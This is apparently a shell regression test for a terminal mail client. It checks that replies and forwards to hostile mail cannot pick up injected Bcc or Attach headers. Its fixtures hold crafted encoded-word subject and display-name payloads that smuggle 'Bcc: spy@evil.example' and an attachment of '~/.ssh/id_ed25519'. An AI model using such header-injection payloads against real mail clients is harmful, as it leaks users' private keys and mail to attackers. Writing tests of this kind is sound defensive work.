#!/bin/sh
# t7140-hard-compose-inject: a stranger's mail must never write the reply.
# A subject and a display name that decode to line breaks ("Bcc: spy",
# "Attach: ~/.ssh/id_ed25519") go through the reader's reply and forward
# under tmux, with an editor that keeps the template as it is given (it only
# adds a line of text, and a To for the forward). The template the editor
# saw holds no Bcc and no Attach line, and the real SMTP server receives no
# blind copy and no attachment. An Attach: line the user types for a file
# outside the folders they chose is asked about before anything is sent.
. "$top_srcdir/tests/lib.sh"
t_init
t_need_cmd tmux tmux
t_need_cmd aiosmtpd python3-aiosmtpd
t_plan 21
t_smtp_start

# The file a hostile mail wants: a private key in the user's HOME.
mkdir -p "$HOME/.ssh"
echo "PRIVATE-KEY-MARKER-7140" >"$HOME/.ssh/id_ed25519"
chmod 600 "$HOME/.ssh/id_ed25519"

# A: the subject decodes to "Quarterly report\nBcc: ...\nAttach: ...".
# B: the display name (an encoded word in quotes) does the same.
mkdir -p "$T_TMP/a/cur" "$T_TMP/a/new" "$T_TMP/a/tmp" \
    "$T_TMP/b/cur" "$T_TMP/b/new" "$T_TMP/b/tmp"
cat >"$T_TMP/a/new/1.eml" <<'EOM'
From: Mallory <mallory@example.org>
To: alice@example.test
Subject: =?utf-8?q?Quarterly_report=0ABcc:_spy@evil.example=0AAttach:_~/.ssh/id=5Fed25519?=
Date: Mon, 01 Jan 2024 10:00:00 +0000
Message-ID: <inject-a@example.org>

Please see the figures.
EOM
name=$(printf 'Ann\nBcc: spy2@evil.example\nAttach: ~/.ssh/id_ed25519' |
    base64 | tr -d '\n')
cat >"$T_TMP/b/new/1.eml" <<EOM
From: "=?utf-8?b?$name?=" <ann@example.org>
To: alice@example.test
Subject: Lunch
Date: Mon, 01 Jan 2024 11:00:00 +0000
Message-ID: <inject-b@example.org>

Noon?
EOM

# The editor keeps the template: it saves a copy of what it was given,
# fills an empty To (a forward has none) and adds one line of text.
edit=$T_TMP/edit.sh
cat >"$edit" <<EOS
#!/bin/sh
n=\$(ls "$T_TMP"/tpl.* 2>/dev/null | wc -l)
cp "\$1" "$T_TMP/tpl.\$n"
sed -i 's/^To: *\$/To: friend@example.org/' "\$1"
echo "Kept the template." >>"\$1"
EOS
chmod +x "$edit"
# A user who types an Attach: line for a file outside any chosen folder.
edit2=$T_TMP/edit2.sh
cat >"$edit2" <<EOS
#!/bin/sh
sed -i "s|^Subject:.*\\\$|&\\\\nAttach: \$HOME/.ssh/id_ed25519|" "\$1"
echo "Typed by the user." >>"\$1"
EOS
chmod +x "$edit2"

for s in a b; do
	t_satchel_config "$HOME/conf-$s" "general.store=$T_TMP/store-$s" \
	    "general.editor=$edit"
	"$SATCHEL" -c "$HOME/conf-$s" import "$T_TMP/$s" >/dev/null 2>&1 ||
	    t_diag "import $s failed"
done
t_satchel_config "$HOME/conf-c" "general.store=$T_TMP/store-a" \
    "general.editor=$edit2"

wait_smtp() {
	i=0
	while test "$(t_smtp_count)" -lt "$1" && test $i -lt 150; do
		sleep 0.1
		i=$((i + 1))
	done
	t_smtp_count
}

# --- reply to the hostile subject ------------------------------------------
t_tmux_start s1 100 24 "$SATCHEL" -c "$HOME/conf-a"
t_ok "reader: the hostile subject is listed" t_tmux_wait s1 'Quarterly report'
t_tmux_keys s1 r
t_ok "reply: the confirmation screen" t_tmux_wait s1 'Subject: +Re: Quarterly'
t_unlike "no Bcc line came from the subject" "$(cat "$T_TMP/tpl.0")" \
    '^Bcc: *[^ ]'
t_unlike "no Attach line came from the subject" "$(cat "$T_TMP/tpl.0")" \
    '^Attach:'
t_like "the subject stays on its line" "$(cat "$T_TMP/tpl.0")" \
    '^Subject: Re: Quarterly report Bcc: spy@evil.example Attach: '
t_tmux_keys s1 y
t_is "it is sent" "$(wait_smtp 1)" 1

# --- forward the same message inline ---------------------------------------
t_tmux_keys s1 f i
t_ok "forward: the confirmation screen" t_tmux_wait s1 'To: +friend@example.org'
t_unlike "no Bcc or Attach line in the forward template" \
    "$(sed '/^$/q' "$T_TMP/tpl.1")" '^(Bcc: *[^ ]|Attach:)'
t_tmux_keys s1 y
t_is "it is sent" "$(wait_smtp 2)" 2
t_tmux_stop s1

# --- reply to the hostile display name -------------------------------------
t_tmux_start s2 100 24 "$SATCHEL" -c "$HOME/conf-b"
t_ok "reader: the message is listed" t_tmux_wait s2 'Lunch'
t_tmux_keys s2 r
t_ok "reply: the confirmation screen" t_tmux_wait s2 'Subject: +Re: Lunch'
t_unlike "no Bcc or Attach line came from the name" \
    "$(sed '/^$/q' "$T_TMP/tpl.2")" '^(Bcc: *[^ ]|Attach:)'
t_like "the name stays inside To" "$(cat "$T_TMP/tpl.2")" \
    '^To: "Ann Bcc: spy2@evil.example Attach: [^"]*" <ann@example.org>$'
t_tmux_keys s2 y
t_is "it is sent" "$(wait_smtp 3)" 3
t_tmux_stop s2

# --- what the SMTP server received -----------------------------------------
rcpts=$(cat "$SMTP_SPOOL"/*.env 2>/dev/null | grep '^RCPT')
t_is "recipients: the authors and the friend only" \
    "$(echo "$rcpts" | sort | tr '\n' ' ')" \
    'RCPT TO:<ann@example.org> RCPT TO:<friend@example.org> RCPT TO:<mallory@example.org> '
t_unlike "no blind copy to the spies" "$rcpts" 'spy'
sent=$(cat "$SMTP_SPOOL"/*.eml 2>/dev/null)
t_unlike "no attachment was sent" "$sent" \
    'multipart/mixed|Content-Disposition: attachment|UFJJVkFURS1LRVk'

# --- an Attach: line the user typed, outside the chosen folders ------------
t_tmux_start s3 120 24 "$SATCHEL" -c "$HOME/conf-c"
t_ok "reader" t_tmux_wait s3 'Quarterly report'
t_tmux_keys s3 m
t_ok "the attachment stands out with a note" t_tmux_wait s3 \
    'Attach: .*id_ed25519 \(named in the text: asked before sending\)'
t_tmux_keys s3 y
t_ok "sending asks first" t_tmux_wait s3 'Attach .*id_ed25519\? The text names it'
t_tmux_keys s3 n
t_ok "no: not sent" t_tmux_wait s3 'Not sent: .*id_ed25519 is not attached'
t_tmux_stop s3
t_done
